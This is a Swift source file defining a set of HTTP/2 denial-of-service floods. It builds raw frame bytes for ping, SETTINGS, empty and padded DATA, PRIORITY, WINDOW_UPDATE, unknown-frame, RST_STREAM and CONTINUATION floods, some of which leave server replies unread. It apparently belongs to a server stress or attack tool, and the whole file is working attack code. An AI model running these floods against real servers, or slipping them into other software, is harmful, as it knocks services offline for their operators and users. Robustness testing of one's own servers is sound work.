/// Frames that move nothing, as many as the server takes.
extension Attack {
  static func floods(_ door: Door) -> [Attack] {
    let request = Frames.request(door, Target.holdPath)
    let open = Frames.opening + Frames.frame(1, 4, 1, request)
    func flood(_ name: String, _ opening: [UInt8], _ frame: [UInt8], reads: Bool = true) -> Attack {
      Attack(name, door, reads: reads, opening: opening, repeating: Frames.repeated(frame))
    }
    let ping = Frames.frame(6, 0, 0, [UInt8](repeating: 7, count: 8))
    let settings = Frames.frame(4, 0, 0, [0, 4, 0, 1, 0, 0])
    let table = Frames.frame(4, 0, 0, [0, 1, 0, 0, 0, 0]) + Frames.frame(4, 0, 0, [0, 1, 0, 0, 0x10, 0])
    return [
      flood("ping", Frames.opening, ping),
      flood("ping, answers unread", Frames.opening, ping, reads: false),
      flood("ping acknowledgement", Frames.opening, Frames.frame(6, 1, 0, [UInt8](repeating: 7, count: 8))),
      flood("settings", Frames.opening, settings),
      flood("settings, answers unread", Frames.opening, settings, reads: false),
      flood("settings, header table size", Frames.opening, table),
      flood("empty data", open, Frames.frame(0, 0, 1)),
      flood("padded empty data", open, Frames.frame(0, 8, 1, [9] + [UInt8](repeating: 0, count: 9))),
      flood("priority", Frames.opening, Frames.frame(2, 0, 3, [0, 0, 0, 0, 15])),
      flood("window update", Frames.opening, Frames.frame(8, 0, 0, [0, 0, 0, 1])),
      flood("unknown frames", Frames.opening, Frames.frame(0xEE, 0, 0, [1, 2, 3])),
      flood("data after the end", Frames.opening + Frames.frame(1, 5, 1, request), Frames.frame(0, 0, 1, [1])),
      flood("reset of idle streams", Frames.opening, Frames.frame(3, 0, 99, [0, 0, 0, 8])),
      flood("continuation", Frames.opening + Frames.frame(1, 0, 1, request), Frames.frame(9, 0, 1, Frames.fields([("x-more", "1")]))),
      flood("empty continuation", Frames.opening + Frames.frame(1, 0, 1, request), Frames.frame(9, 0, 1)),
    ]
  }
}
